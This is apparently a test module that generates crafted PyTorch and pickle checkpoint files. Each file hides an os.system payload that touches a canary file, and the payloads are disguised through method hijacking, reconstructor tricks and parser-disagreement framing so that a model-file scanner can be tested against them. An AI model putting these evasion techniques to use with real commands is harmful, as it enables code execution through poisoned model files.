@@ -1,0 +1,971 @@
+"""Crafted attacks: files that make a loader run something although every name in them looks known.
+
+``ATTACKS`` holds one entry per file. Each says which kind of fault it stands for and builds the file from the path of
+a canary: where the payload runs, it creates that file and does nothing else. ``tests/oracle/test_attacks.py`` loads
+all of them for real; whatever runs there must be called ``unsafe``.
+"""
+
+from __future__ import annotations
+
+import io
+import shlex
+import struct
+import tarfile
+import zipfile
+from collections.abc import Callable, Iterator, Mapping
+from dataclasses import dataclass
+from pathlib import Path
+
+from building import (
+    APPEND,
+    BINPERSID,
+    BUILD,
+    DUP,
+    EMPTY_DICT,
+    EMPTY_LIST,
+    EMPTY_TUPLE,
+    FALSE,
+    LEGACY_MAGIC,
+    LEGACY_PROTOCOL,
+    MARK,
+    NEWOBJ,
+    NEWOBJ_EX,
+    NONE,
+    ORDERED_DICT,
+    POP,
+    REDUCE,
+    SETITEM,
+    STACK_GLOBAL,
+    TRUE,
+    Member,
+    Writer,
+    archive,
+    blob,
+    call,
+    detector,
+    from_bytes,
+    get,
+    integer,
+    items,
+    latin1,
+    legacy,
+    legacy_tensor,
+    listed,
+    mapping,
+    name,
+    pickled,
+    put,
+    shape_of,
+    stack_name,
+    state_dict,
+    storage,
+    tensor,
+    text,
+    torch_zip,
+    ultralytics_checkpoint,
+)
+
+Builder = Callable[[str], bytes]
+FIXTURES = Path(__file__).parents[1] / "fixtures"
+ADDITEMS, APPENDS, SETITEMS, OBJ, FROZENSET, EMPTY_SET = b"\x90", b"e", b"u", b"o", b"\x91", b"\x8f"
+
+
+@dataclass(frozen=True)
+class Attack:
+    """One file: the ``kind`` of fault it stands for, its bytes by canary, and the loader that is asked."""
+
+    kind: str
+    build: Builder
+    loader: str = "torch"
+    must_run: bool = True  # that it runs with the packages of the test environment; the others are tried all the same
+
+
+# --- what is made to run --------------------------------------------------------------------------
+
+
+def evil(canary: str) -> bytes:
+    """A checkpoint in bytes whose loading creates the canary."""
+    command = call(name("os", "system"), text("touch " + shlex.quote(canary)))
+    return legacy(command, keys=EMPTY_LIST, storages=b"")
+
+
+LOAD = name("torch.storage", "_load_from_bytes")
+HARMLESS = blob(legacy(EMPTY_DICT, keys=EMPTY_LIST, storages=b""))
+PARTIAL = name("functools", "partial")
+PARAMETER = name("torch.nn.parameter", "Parameter")
+FROM_TYPE = name("torch._tensor", "_rebuild_from_type_v2")
+REBUILD = name("torch._utils", "_rebuild_tensor_v2")
+
+
+def refilled(function: bytes, first: bytes, *arguments: bytes, keywords: bytes = EMPTY_DICT) -> bytes:
+    """A partial that is made with harmless arguments (``first`` emits them) and then given others by BUILD."""
+    made = PARTIAL + items(function, first) + REDUCE
+    return made + items(function, items(*arguments), keywords, NONE) + BUILD
+
+
+def without_arguments(canary: str) -> bytes:
+    """A callable that runs the payload when it is called with nothing."""
+    return refilled(LOAD, HARMLESS, blob(evil(canary)))
+
+
+def with_anything(canary: str) -> bytes:
+    """A callable that runs the payload when it is called with one argument, whatever it is."""
+    harmless = REBUILD + PARAMETER + EMPTY_TUPLE
+    return refilled(FROM_TYPE, harmless, LOAD, PARAMETER, items(blob(evil(canary))))
+
+
+# --- A1: methods looked up on the instance --------------------------------------------------------
+
+CARRIERS: Mapping[str, bytes] = {
+    "namespace": name("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ,
+    "namespace_called": name("argparse", "Namespace") + EMPTY_TUPLE + REDUCE,
+    "namespace_ex": name("argparse", "Namespace") + EMPTY_TUPLE + EMPTY_DICT + NEWOBJ_EX,
+    "namespace_obj": MARK + name("argparse", "Namespace") + OBJ,
+    "namespace_inst": MARK + b"iargparse\nNamespace\n",
+    "namespace_reconstructed": call(
+        name("copyreg", "_reconstructor"), name("argparse", "Namespace"), name("builtins", "object"), NONE
+    ),
+    "namespace_newobj_function": call(name("copyreg", "__newobj__"), name("argparse", "Namespace")),
+    "namespace_newobj_ex_function": call(
+        name("copyreg", "__newobj_ex__"), name("argparse", "Namespace"), EMPTY_TUPLE, EMPTY_DICT
+    ),
+    "simple_namespace": name("types", "SimpleNamespace") + EMPTY_TUPLE + REDUCE,
+    "ordered_dict": call(ORDERED_DICT),
+    "counter": name("collections", "Counter") + EMPTY_TUPLE + NEWOBJ,
+    "layer": name("torch.nn.modules.linear", "Linear") + EMPTY_TUPLE + NEWOBJ,
+    "trainer_layer": name("ultralytics.nn.modules.conv", "Conv") + EMPTY_TUPLE + NEWOBJ,
+    "trainer_namespace": name("ultralytics.utils", "IterableSimpleNamespace") + EMPTY_TUPLE + NEWOBJ,
+    "loss": name("ultralytics.utils.loss", "v8DetectionLoss") + EMPTY_TUPLE + NEWOBJ,
+    "optimizer": name("torch.optim.sgd", "SGD") + EMPTY_TUPLE + NEWOBJ,
+    "version": name("torch.torch_version", "TorchVersion") + items(text("2.0")) + NEWOBJ,
+    "symbolic": name("torch", "SymInt") + EMPTY_TUPLE + NEWOBJ,
+    "device_mesh": name("torch.distributed.device_mesh", "DeviceMesh") + EMPTY_TUPLE + NEWOBJ,
+    "spec": name("torch.distributed.tensor._dtensor_spec", "DTensorSpec") + EMPTY_TUPLE + NEWOBJ,
+    "arguments": name("transformers.training_args", "TrainingArguments") + EMPTY_TUPLE + NEWOBJ,
+    "metric": name("torchmetrics.classification.accuracy", "MulticlassAccuracy") + EMPTY_TUPLE + NEWOBJ,
+    "callback": name("lightning.pytorch.callbacks.early_stopping", "EarlyStopping") + EMPTY_TUPLE + NEWOBJ,
+    "typed_storage": name("torch.storage", "TypedStorage") + EMPTY_TUPLE + NEWOBJ,
+    "parameter": call(name("torch._utils", "_rebuild_parameter"), tensor(), TRUE, call(ORDERED_DICT)),
+}
+# Method name, what stands under it, and the opcodes that make the unpickler call it.
+TRIGGERS: Mapping[str, tuple[str, Builder, Builder]] = {
+    "append": ("append", lambda _: LOAD, lambda canary: blob(evil(canary)) + APPEND),
+    "appends": ("append", lambda _: LOAD, lambda canary: MARK + blob(evil(canary)) + APPENDS),
+    "extend": ("extend", with_anything, lambda _: NONE + APPEND),
+    "extends": ("extend", with_anything, lambda _: MARK + integer(1) + integer(2) + APPENDS),
+    "add": ("add", lambda _: LOAD, lambda canary: MARK + blob(evil(canary)) + ADDITEMS),
+    "setstate": ("__setstate__", lambda _: LOAD, lambda canary: blob(evil(canary)) + BUILD),
+    "setstate_partial": ("__setstate__", with_anything, lambda _: EMPTY_DICT + BUILD),
+}
+OWN_METHOD = {  # carriers whose type has the method: the unpickler finds that one
+    **dict.fromkeys(("layer", "trainer_layer", "optimizer", "metric", "parameter"), ("setstate", "setstate_partial")),
+    "counter": (),
+    "typed_storage": (),
+}
+
+
+def instance_methods() -> Iterator[tuple[str, Attack]]:
+    for carrier, made in CARRIERS.items():
+        for trigger, (method, weapon, fire) in TRIGGERS.items():
+            if trigger in OWN_METHOD.get(carrier, ()):
+                continue
+
+            def build(canary: str, made=made, method=method, weapon=weapon, fire=fire) -> bytes:  # type: ignore[no-untyped-def]
+                state = EMPTY_DICT + text(method) + weapon(canary) + SETITEM
+                if made is CARRIERS["parameter"]:
+                    made = call(
+                        name("torch._utils", "_rebuild_parameter_with_state"), tensor(), TRUE, call(ORDERED_DICT), state
+                    )
+                    return injected(made + fire(canary))
+                return injected(made + state + BUILD + fire(canary))
+
+            yield f"{trigger}_of_{carrier}", Attack("A1", build, must_run=carrier not in MAY_REFUSE)
+
+
+MAY_REFUSE = ("typed_storage", "metric", "symbolic", "parameter", "spec", "arguments", "optimizer", "callback", "device_mesh")  # fmt: skip
+
+
+def injected(payload: bytes, base: str = "plain-loop.pt") -> bytes:
+    """A real checkpoint whose pickle begins with a payload that leaves one object, which is dropped."""
+    with zipfile.ZipFile(FIXTURES / base) as whole:
+        members = [(entry.filename, whole.read(entry)) for entry in whole.infolist()]
+    changed = (
+        (inside, data[:2] + payload + POP + data[2:] if inside.endswith("/data.pkl") else data)
+        for inside, data in members
+    )
+    return archive(*(Member(inside, data) for inside, data in changed), alignment=64)
+
+
+def armed(method: str, weapon: bytes, carrier: str = "namespace") -> bytes:
+    """An object with a callable under a method's name."""
+    return CARRIERS[carrier] + EMPTY_DICT + text(method) + weapon + SETITEM + BUILD
+
+
+def zipped(payload: Builder) -> Builder:
+    return lambda canary: injected(payload(canary))
+
+
+def key_spelled(key: bytes) -> Builder:
+    """The method's name is no string constant, or comes into the state another way."""
+    return zipped(
+        lambda canary: CARRIERS["namespace"] + EMPTY_DICT + key + LOAD + SETITEM + BUILD + blob(evil(canary)) + APPEND
+    )
+
+
+def slot_state(canary: str) -> bytes:
+    return CARRIERS["namespace"] + items(NONE, mapping(append=LOAD)) + BUILD + blob(evil(canary)) + APPEND
+
+
+def both_states(canary: str) -> bytes:
+    return CARRIERS["namespace"] + items(EMPTY_DICT, mapping(append=LOAD)) + BUILD + blob(evil(canary)) + APPEND
+
+
+def state_in_ordered_dict(canary: str) -> bytes:
+    state = call(ORDERED_DICT) + text("append") + LOAD + SETITEM
+    return CARRIERS["namespace"] + state + BUILD + blob(evil(canary)) + APPEND
+
+
+def state_from_pairs(canary: str) -> bytes:
+    state = call(name("builtins", "dict"), listed(items(text("append"), LOAD)))
+    return CARRIERS["namespace"] + state + BUILD + blob(evil(canary)) + APPEND
+
+
+def shared_dict(canary: str) -> bytes:
+    """The instance's ``__dict__`` is set to a dict that is filled afterwards."""
+    made = CARRIERS["namespace"] + items(NONE, mapping(__dict__=EMPTY_DICT + put(90))) + BUILD + put(91) + POP
+    return made + get(90) + text("append") + LOAD + SETITEM + POP + get(91) + blob(evil(canary)) + APPEND
+
+
+def layer_shares_state(canary: str) -> bytes:
+    """An Ordered dict put as ``__dict__``."""
+    made = CARRIERS["layer"] + items(NONE, mapping(__dict__=EMPTY_DICT + put(90))) + BUILD + put(91) + POP
+    return made + get(90) + text("append") + LOAD + SETITEM + POP + get(91) + blob(evil(canary)) + APPEND
+
+
+def second_build(canary: str) -> bytes:
+    return CARRIERS["namespace"] + mapping(a=integer(1)) + BUILD + mapping(append=LOAD) + BUILD + blob(evil(canary)) + APPEND  # fmt: skip
+
+
+def through_memo(canary: str) -> bytes:
+    return (
+        CARRIERS["namespace"] + put(90) + POP + get(90) + mapping(append=LOAD) + BUILD + POP + get(90)
+        + blob(evil(canary)) + APPEND
+    )  # fmt: skip
+
+
+def through_dup(canary: str) -> bytes:
+    return CARRIERS["namespace"] + DUP + mapping(append=LOAD) + BUILD + POP + blob(evil(canary)) + APPEND
+
+
+def in_container(canary: str) -> bytes:
+    return listed(armed("append", LOAD) + blob(evil(canary)) + APPEND)
+
+
+def by_attribute(canary: str) -> bytes:
+    """A method fetched from a class stands under the name."""
+    touching = call(name("builtins", "getattr"), name("pathlib", "Path"), text("touch"))
+    return armed("append", touching) + call(name("pathlib", "PosixPath"), text(canary)) + APPEND
+
+
+def namespace_arguments(canary: str) -> bytes:
+    """The callable comes in as a keyword of the constructor."""
+    made = name("argparse", "Namespace") + EMPTY_TUPLE + mapping(append=LOAD) + NEWOBJ_EX
+    return made + mapping(append=LOAD) + BUILD + blob(evil(canary)) + APPEND
+
+
+def partial_with_attribute(canary: str) -> bytes:
+    """partial keeps attributes too: the fourth part of its state."""
+    silu = name("torch.nn.modules.activation", "SiLU")
+    made = call(PARTIAL, silu) + items(silu, EMPTY_TUPLE, EMPTY_DICT, mapping(append=LOAD)) + BUILD
+    return made + blob(evil(canary)) + APPEND
+
+
+def setstate_calls_setstate(canary: str) -> bytes:
+    """``__setstate__`` is ``partial`` itself, which makes nothing run, and then the loader of bytes."""
+    made = CARRIERS["namespace"] + mapping(__setstate__=LOAD) + BUILD
+    return made + blob(evil(canary)) + BUILD
+
+
+def class_under_method(module: str, qualified: str, *arguments: bytes) -> Builder:
+    """A class under ``append``: APPEND runs its constructor with one argument."""
+    return zipped(lambda canary: armed("append", name(module, qualified)) + b"".join(arguments) + APPEND)
+
+
+def from_type_state(canary: str) -> bytes:
+    made = call(
+        FROM_TYPE,
+        REBUILD,
+        PARAMETER,
+        items(storage(), integer(0), shape_of(4), shape_of(1), FALSE, call(ORDERED_DICT)),
+        mapping(append=LOAD),
+    )
+    return made + blob(evil(canary)) + APPEND
+
+
+STATES: Mapping[str, Attack] = {
+    "key_of_torch_version": Attack("A1", key_spelled(call(name("torch.torch_version", "TorchVersion"), text("append")))),
+    "key_of_str_call": Attack("A1", key_spelled(call(name("builtins", "str"), text("append")))),
+    "key_of_python2_text": Attack("A1", key_spelled(b"U\x06append")),
+    "key_from_memo": Attack("A1", key_spelled(text("append") + put(88) + POP + get(88))),
+    "slot_state": Attack("A1", zipped(slot_state)),
+    "both_states": Attack("A1", zipped(both_states)),
+    "state_in_ordered_dict": Attack("A1", zipped(state_in_ordered_dict)),
+    "state_from_pairs": Attack("A1", zipped(state_from_pairs)),
+    "shared_dict": Attack("A1", zipped(shared_dict)),
+    "shared_dict_of_layer": Attack("A1", zipped(layer_shares_state)),
+    "second_build": Attack("A1", zipped(second_build)),
+    "through_memo": Attack("A1", zipped(through_memo)),
+    "through_dup": Attack("A1", zipped(through_dup)),
+    "in_container": Attack("A1", zipped(in_container)),
+    "by_attribute": Attack("A1", zipped(by_attribute)),
+    "namespace_keywords": Attack("A1", zipped(namespace_arguments)),
+    "partial_with_attribute": Attack("A1", zipped(partial_with_attribute)),
+    "setstate_then_state": Attack("A1", zipped(setstate_calls_setstate)),
+    "from_type_state": Attack("A1", zipped(from_type_state)),
+}
+
+# --- A1: containers and formats around the same attack --------------------------------------------
+
+
+def forty(canary: str) -> bytes:
+    """An instance whose ``append`` is the loader of bytes."""
+    return armed("append", LOAD) + blob(evil(canary)) + APPEND
+
+
+def latin(canary: str) -> bytes:
+    """The same in protocol 2 spelling, the bytes as text."""
+    load = name("torch.storage", "_load_from_bytes")
+    return armed("__setstate__", load) + latin1(evil(canary)) + BUILD
+
+
+FORMATS: Mapping[str, Attack] = {
+    "format_zip": Attack("A1", lambda canary: torch_zip(pickled(state_dict(extra=forty(canary)), 2))),
+    "format_zip_latin1": Attack("A1", lambda canary: torch_zip(pickled(state_dict(extra=latin(canary)), 2))),
+    "format_zip_deflated": Attack(
+        "A1",
+        lambda canary: archive(
+            Member("archive/data.pkl", pickled(forty(canary)), deflated=True), Member("archive/version", b"3\n")
+        ),
+    ),
+    "format_legacy": Attack("A1", lambda canary: legacy(mapping(weight=legacy_tensor(), extra=forty(canary)))),
+    "format_legacy_magic": Attack("A1", lambda canary: legacy(magic=forty(canary) + POP + integer(LEGACY_MAGIC))),
+    "format_legacy_keys": Attack("A1", lambda canary: legacy(keys=forty(canary) + POP + listed(text("0")))),
+    "format_legacy_info": Attack("A1", lambda canary: legacy(system=forty(canary))),
+    "format_pickle": Attack("A1", lambda canary: pickled(forty(canary))),
+    "format_nested": Attack(
+        "A1", zipped(lambda canary: from_bytes(blob(legacy(forty(canary), keys=EMPTY_LIST, storages=b""))))
+    ),
+    "format_key": Attack("A1", lambda canary: torch_zip(pickled(EMPTY_DICT + forty(canary) + NONE + SETITEM))),
+    "format_persistent": Attack(
+        "A1",
+        lambda canary: legacy(
+            items(text("module"), name("argparse", "Namespace"), NONE, NONE)
+            + BINPERSID
+            + EMPTY_TUPLE
+            + NEWOBJ
+            + mapping(append=LOAD)
+            + BUILD
+            + blob(evil(canary))
+            + APPEND
+        ),
+    ),
+}
+
+# --- A1: known functions that ask their arguments for methods --------------------------------------
+
+
+def asked(
+    method: str, function: Callable[[bytes], bytes], carrier: str = "namespace", must_run: bool = True
+) -> Attack:
+    """A known function given an object whose ``method`` is the payload."""
+    return Attack(
+        "A1", zipped(lambda canary: function(armed(method, without_arguments(canary), carrier))), must_run=must_run
+    )
+
+
+def known(module: str, qualified: str, before: tuple[bytes, ...] = (), after: tuple[bytes, ...] = ()) -> Callable[[bytes], bytes]:  # fmt: skip
+    return lambda argument: call(name(module, qualified), *before, argument, *after)
+
+
+SEQUENTIAL = name("torch.nn.modules.container", "Sequential") + EMPTY_TUPLE + NEWOBJ
+MODULE_DICT = name("torch.nn.modules.container", "ModuleDict") + EMPTY_TUPLE + NEWOBJ
+
+
+def sequence_over(weapon: bytes) -> bytes:
+    """A layer that asks ``self._modules.values()`` when something iterates over it."""
+    return SEQUENTIAL + EMPTY_DICT + text("_modules") + armed("values", weapon) + SETITEM + BUILD
+
+
+def iterated(function: Callable[[bytes], bytes]) -> Attack:
+    return Attack("A1", zipped(lambda canary: function(sequence_over(without_arguments(canary)))))
+
+
+def symbolic(method: str, function: Callable[[bytes], bytes]) -> Attack:
+    """A symbolic integer asks its node for everything."""
+    return Attack(
+        "A1",
+        zipped(
+            lambda canary: function(
+                name("torch", "SymInt") + EMPTY_TUPLE + NEWOBJ
+                + EMPTY_DICT + text("node") + armed(method, without_arguments(canary)) + SETITEM + BUILD
+            )
+        ),
+    )  # fmt: skip
+
+
+def loss_over(canary: str, qualified: str = "v8DetectionLoss", module: str = "ultralytics.utils.loss") -> bytes:
+    return call(name(module, qualified), armed("parameters", without_arguments(canary)))
+
+
+def lowered(canary: str) -> bytes:
+    """``Module.__delattr__`` and ``__setattr__`` ask what they keep for ``discard``."""
+    keeper = MODULE_DICT + mapping(_modules=mapping(x=NONE), discard=with_anything(canary)) + BUILD
+    target = CARRIERS["layer"] + EMPTY_DICT + text("_parameters") + EMPTY_DICT + SETITEM + text("_buffers") + keeper + SETITEM + text("_modules") + EMPTY_DICT + SETITEM + BUILD  # fmt: skip
+    parameter = call(name("torch._utils", "_rebuild_parameter"), tensor(), TRUE, call(ORDERED_DICT))
+    return target + items(NONE, EMPTY_DICT + text("x") + parameter + SETITEM) + BUILD
+
+
+DUCKS: Mapping[str, Attack] = {
+    **{
+        f"keys_for_{qualified.lower()}": asked("keys", known(module, qualified))
+        for module, qualified in (("builtins", "dict"), ("__builtin__", "dict"), ("collections", "OrderedDict"))
+    },
+    "keys_for_defaultdict": asked("keys", lambda held: call(name("collections", "defaultdict"), NONE, held)),
+    "keys_for_ordered_dict_newobj": Attack(
+        "A1", zipped(lambda canary: ORDERED_DICT + items(armed("keys", without_arguments(canary))) + NEWOBJ), must_run=False
+    ),
+    "keys_for_counter": Attack(
+        "A1", zipped(lambda canary: call(name("collections", "Counter"), armed("keys", without_arguments(canary)))), must_run=False
+    ),
+    "keys_of_layer": asked("keys", known("builtins", "dict"), carrier="layer"),
+    "keys_of_ordered_dict": asked("keys", known("builtins", "dict"), carrier="ordered_dict"),
+    "keys_of_trainer_namespace": asked("keys", known("builtins", "dict"), carrier="trainer_namespace"),
+    "detach_for_parameter": asked("detach", known("torch._utils", "_rebuild_parameter", after=(TRUE, NONE))),
+    "detach_for_parameter_with_state": asked(
+        "detach", known("torch._utils", "_rebuild_parameter_with_state", after=(TRUE, NONE, NONE))
+    ),
+    "detach_for_parameter_in_rebuilder": asked(
+        "detach",
+        lambda held: call(FROM_TYPE, name("torch._utils", "_rebuild_parameter"), PARAMETER, items(held, TRUE, NONE), NONE),
+    ),
+    "to_for_device_tensor": asked(
+        "to",
+        known("torch._utils", "_rebuild_device_tensor_from_cpu_tensor", after=(name("torch", "float32"), text("cpu"), FALSE)),
+        must_run=False,
+    ),
+    **{
+        f"parameters_for_{qualified}": Attack("A1", zipped(lambda canary, q=qualified: loss_over(canary, q)))
+        for qualified in ("v8DetectionLoss", "v8SegmentationLoss", "v8PoseLoss", "v8OBBLoss")
+    },
+    "array_for_scalar": Attack(
+        "A1", zipped(lambda canary: call(name("numpy", "float64"), armed("__array__", without_arguments(canary)))), must_run=False
+    ),
+    "array_for_float32": Attack(
+        "A1", zipped(lambda canary: call(name("numpy", "float32"), armed("__array__", without_arguments(canary)))), must_run=False
+    ),
+    **{
+        f"values_for_{qualified}": iterated(known(module, qualified))
+        for module, qualified in (
+            ("builtins", "frozenset"),
+            ("builtins", "dict"),
+            ("collections", "deque"),
+            ("collections", "Counter"),
+            ("collections", "OrderedDict"),
+            ("torch", "Size"),
+        )
+    },
+    **{f"values_for_{qualified}": iterated(known("builtins", qualified)) for qualified in ("set", "list", "tuple", "bytearray", "bytes")},
+    "values_for_newobj_frozenset": iterated(lambda held: name("builtins", "frozenset") + items(held) + NEWOBJ),
+    "values_for_newobj_tuple": iterated(lambda held: name("builtins", "tuple") + items(held) + NEWOBJ),
+    "values_for_appends": Attack(
+        "A1",
+        zipped(lambda canary: name("collections", "deque") + EMPTY_TUPLE + REDUCE + sequence_over(without_arguments(canary)) + APPEND),
+        must_run=False,
+    ),
+    "values_for_partial_arguments": Attack(
+        "A1",
+        zipped(
+            lambda canary: call(PARTIAL, name("torch.nn.modules.activation", "SiLU"))
+            + items(name("torch.nn.modules.activation", "SiLU"), sequence_over(without_arguments(canary)), EMPTY_DICT, NONE)
+            + BUILD
+        ),
+        must_run=False,
+    ),
+    "symbolic_key": symbolic("is_nested_int", lambda held: EMPTY_DICT + held + NONE + SETITEM),
+    "symbolic_set": symbolic("is_nested_int", lambda held: EMPTY_SET + MARK + held + ADDITEMS),
+    "symbolic_frozenset": symbolic("is_nested_int", lambda held: MARK + held + FROZENSET),
+    "symbolic_bool": symbolic("bool_", known("builtins", "bool")),
+    "symbolic_int": symbolic("int_", known("builtins", "int")),
+    "symbolic_size": symbolic("is_symbolic", known("builtins", "slice")),
+    "module_attribute_discards": Attack("A1", zipped(lowered)),
+}  # fmt: skip
+
+# --- A2: constructors and __setstate__ --------------------------------------------------------------
+
+RECONSTRUCTOR = name("copyreg", "_reconstructor")
+
+
+def reconstructed(cls: tuple[str, str], base: tuple[str, str], state: Builder, must_run: bool = True) -> Attack:
+    """``base.__new__(cls, state)`` and ``base.__init__(made, state)``."""
+    return Attack("A2", zipped(lambda canary: call(RECONSTRUCTOR, name(*cls), name(*base), state(canary))), must_run=must_run)
+
+
+# --- A4: two readers, two readings ------------------------------------------------------------------
+
+
+def swallowed(canary: str) -> bytes:
+    """The frame of the first pickle reaches over the good ones: CPython's reader goes on behind it."""
+    good = legacy()[len(pickled(integer(LEGACY_MAGIC), 2)) :]
+    first = integer(LEGACY_MAGIC) + b"."
+    hidden = pickled(call(name("os", "system"), text("touch " + shlex.quote(canary))), 2)
+    length = len(first) + len(good)
+    return b"\x80\x04\x95" + struct.pack("<Q", length) + first + good + hidden
+
+
+def swallowed_in_storage(canary: str) -> bytes:
+    """The same, and the rest lies inside the bytes of the storage: to a linear reader the file is whole."""
+    hidden = pickled(call(name("os", "system"), text("touch " + shlex.quote(canary))), 2)
+    room = -len(hidden) % 4
+    data = hidden + bytes(room)
+    count = len(data) // 4
+    key = items(text("storage"), name("torch", "FloatStorage"), text("0"), text("cpu"), integer(count), NONE) + BINPERSID
+    body = mapping(weight=call(REBUILD, key, integer(0), shape_of(count), shape_of(1), FALSE, call(ORDERED_DICT)))
+    whole = legacy(body, storages=struct.pack("<q", count) + data)
+    rest = whole[len(pickled(integer(LEGACY_MAGIC), 2)) :]
+    first = integer(LEGACY_MAGIC) + b"."
+    return b"\x80\x04\x95" + struct.pack("<Q", len(first) + len(rest) - len(data)) + first + rest
+
+
+def frame_of(position: int) -> Builder:
+    """The frame of the protocol's or the system's pickle, or of the object, reaches over what follows."""
+
+    def build(canary: str) -> bytes:
+        hidden = pickled(call(name("os", "system"), text("touch " + shlex.quote(canary))), 2)
+        parts = [integer(LEGACY_MAGIC), integer(LEGACY_PROTOCOL), mapping(little_endian=TRUE), mapping(weight=legacy_tensor()), listed(text("0"))]  # fmt: skip
+        pickles = [pickled(part, 2) for part in parts]
+        following = b"".join(pickles[position + 1 :]) + struct.pack("<q", 4) + bytes(16)
+        body = parts[position] + b"."
+        framed = b"\x80\x04\x95" + struct.pack("<Q", len(body) + len(following)) + body
+        return b"".join(pickles[:position]) + framed + following + hidden
+
+    return build
+
+
+def old_tar(members: Mapping[str, bytes], first: bytes = b"") -> bytes:
+    """A tar with V7 headers, which have no magic; ``first`` begins the name of an empty first member."""
+    out = bytearray()
+    for inside, data in [(first, b"")] * bool(first) + [(key.encode(), value) for key, value in members.items()]:
+        header = bytearray(512)
+        header[: len(inside)] = inside
+        header[100:108], header[108:116], header[116:124] = b"0000644\0", b"0000000\0", b"0000000\0"
+        header[124:136] = b"%011o\0" % len(data)
+        header[136:148] = b"00000000000\0"
+        header[148:156] = b" " * 8
+        header[156:157] = b"0"
+        header[148:156] = b"%06o\0 " % sum(header)
+        out += header + data + bytes(-len(data) % 512)
+    return bytes(out + bytes(1024))
+
+
+def tar_pickle(canary: str) -> bytes:
+    return pickled(call(name("os", "system"), text("touch " + shlex.quote(canary))), 2)
+
+
+def stream_and_tar(canary: str) -> bytes:
+    """Torch's stream of pickles to a linear reader; a tar, whose ``storages`` is evil, to torch, which asks first."""
+    leading = b"".join(pickled(part, 2) for part in (integer(LEGACY_MAGIC), integer(LEGACY_PROTOCOL), EMPTY_DICT))
+    whole = old_tar({"storages": tar_pickle(canary)}, first=leading + b"\x80\x02B" + bytes(4))
+    opening = leading + b"\x80\x02B" + struct.pack("<I", len(whole) - len(leading) - 7)
+    tar = old_tar({"storages": tar_pickle(canary)}, first=opening)
+    return tar + POP + mapping(weight=legacy_tensor()) + b"." + pickled(listed(text("0")), 2) + struct.pack("<q", 4) + bytes(16)  # fmt: skip
+
+
+def state_on_module(canary: str) -> bytes:
+    """BUILD on what a persistent id hands back: a class, to which it gives a ``__setstate__``."""
+    module = items(text("module"), name("argparse", "Namespace"), NONE, NONE) + BINPERSID
+    patched = module + items(NONE, mapping(__setstate__=LOAD)) + BUILD
+    return legacy(mapping(weight=legacy_tensor(), extra=patched + EMPTY_TUPLE + NEWOBJ + blob(evil(canary)) + BUILD))
+
+
+def state_on_module_zip(canary: str) -> bytes:
+    """The same where the class comes through the memo."""
+    module = items(text("module"), name("argparse", "Namespace"), NONE, NONE) + BINPERSID + put(90)
+    patched = module + items(NONE, mapping(append=LOAD)) + BUILD + POP
+    made = name("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ
+    return legacy(patched + mapping(weight=legacy_tensor(), extra=made + blob(evil(canary)) + APPEND))
+
+
+def attribute_of_module(canary: str) -> bytes:
+    """A persistent id that hands back an instance instead of a class, and is then given a state."""
+    module = items(text("module"), CARRIERS["namespace"], NONE, NONE) + BINPERSID
+    return legacy(mapping(weight=legacy_tensor(), extra=module + mapping(append=LOAD) + BUILD + blob(evil(canary)) + APPEND))  # fmt: skip
+
+
+def callable_module(canary: str) -> bytes:
+    """A persistent id that hands back a partial, which is then called."""
+    module = items(text("module"), without_arguments(canary), NONE, NONE) + BINPERSID
+    return legacy(mapping(weight=legacy_tensor(), extra=call(module)))
+
+
+def system(canary: str) -> bytes:
+    return call(name("os", "system"), text("touch " + shlex.quote(canary)))
+
+
+def after(odd: bytes) -> Builder:
+    """Something a strict reader of opcodes stops at and CPython reads, and the payload behind it."""
+    return lambda canary: torch_zip(pickled(odd + POP + system(canary) + POP + state_dict(), 2))
+
+
+ARRAY = call(name("numpy._core.multiarray", "_reconstruct"), name("numpy", "ndarray"), shape_of(0), blob(b"b"))
+READERS: Mapping[str, Attack] = {
+    "frame_swallows_pickles": Attack("A4", swallowed),
+    "frame_ends_in_storage": Attack("A4", swallowed_in_storage),
+    "frame_of_protocol": Attack("A4", frame_of(1)),
+    "frame_of_system": Attack("A4", frame_of(2)),
+    "frame_of_object": Attack("A4", frame_of(3)),
+    "tar_v7": Attack("A4", lambda canary: old_tar({"storages": tar_pickle(canary)})),
+    "tar_v7_tensors": Attack(
+        "A4",
+        lambda canary: old_tar(
+            {"storages": pickled(integer(0), 2) + pickled(EMPTY_LIST, 2), "tensors": tar_pickle(canary)}
+        ),
+    ),
+    "tar_v7_pickle": Attack(
+        "A4",
+        lambda canary: old_tar(
+            {
+                "storages": pickled(integer(0), 2) + pickled(EMPTY_LIST, 2),
+                "tensors": pickled(integer(0), 2),
+                "pickle": tar_pickle(canary),
+            }
+        ),
+    ),
+    "tar_and_stream": Attack("A4", stream_and_tar),
+    "tar_and_zip": Attack(
+        "A4",
+        lambda canary: old_tar({"storages": tar_pickle(canary)}) + torch_zip(pickled(state_dict(), 2)), must_run=False,
+    ),
+    "state_on_module": Attack("A4", state_on_module),
+    "state_on_module_memo": Attack("A4", state_on_module_zip),
+    "state_on_persistent_instance": Attack("A4", attribute_of_module),
+    "persistent_callable": Attack("A4", callable_module),
+    "list_as_key_of_array": Attack(
+        "A4",
+        after(ARRAY + EMPTY_LIST + integer(0) + SETITEM),
+    ),
+    "list_as_key_of_tensor": Attack("A4", after(tensor() + listed(integer(0)) + integer(0) + SETITEM)),
+    "hexadecimal_integer": Attack("A4", after(b"I0x10\n")),
+    "octal_integer": Attack("A4", after(b"I0o7\n")),
+    "hexadecimal_long": Attack("A4", after(b"L0x10L\n")),
+    "integer_with_nul": Attack("A4", after(b"I1\0x\n")),
+    "float_with_nul": Attack("A4", after(b"F1.0\0x\n")),
+    "integer_with_underscores": Attack("A4", after(b"I1_000\n")),
+    "popped_mark": Attack("A4", after(MARK + MARK + POP + integer(1) + b"1" + NONE)),
+    "memo_over_mark": Attack("A4", after(NONE + put(9) + MARK + get(9) + b"1")),
+    "nested_mark_tuple": Attack("A4", after(MARK + MARK + integer(1) + b"t" + b"t")),
+    "empty_setitems": Attack("A4", after(NONE + MARK + SETITEMS)),
+    "empty_appends": Attack("A4", after(NONE + MARK + APPENDS)),
+    "empty_additems": Attack("A4", after(NONE + MARK + ADDITEMS)),
+    "large_integer_keys": Attack(
+        "A4", after(EMPTY_DICT + b"\x8a\xff" + b"\x7f" * 255 + NONE + SETITEM)
+    ),
+    "colliding_keys": Attack(
+        "A4",
+        after(EMPTY_DICT + MARK + b"".join(integer((index + 1) * (2**61 - 1)) + NONE for index in range(1100)) + SETITEMS),
+    ),
+    "python2_bytes": Attack("A4", after(b"S'a\\x41'\n")),
